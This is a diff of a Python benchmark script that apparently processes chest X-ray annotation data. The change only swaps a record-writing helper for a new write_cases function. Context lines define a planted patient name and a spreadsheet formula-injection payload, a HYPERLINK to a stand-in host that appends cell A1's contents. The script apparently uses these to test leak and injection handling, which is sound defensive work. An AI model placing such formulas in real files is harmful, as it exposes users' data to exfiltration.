@@ -24,7 +24,7 @@ from pathlib import Path
 
 REPO = Path(__file__).resolve().parent.parent
 sys.path.insert(0, str(REPO / "bench"))
-from bench_io import write_record  # noqa: E402
+from bench_io import write_cases  # noqa: E402
 SAMPLE = REPO / "sample_dicoms" / "annotations" / "vindr_cxr_annotations.csv"
 NAME = "Nguyen Van Planted"
 FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
@@ -199,8 +199,7 @@ def main(argv=None) -> int:
             results.append(rec)
             print(json.dumps(rec), flush=True)
     if a.json:
-        write_record(Path(a.json), {"cases": len(results), "load_start_end": [load0, os.getloadavg()[0]],
-                                    "results": results})
+        write_cases(a.json, results, load0)
     return 0
 
 
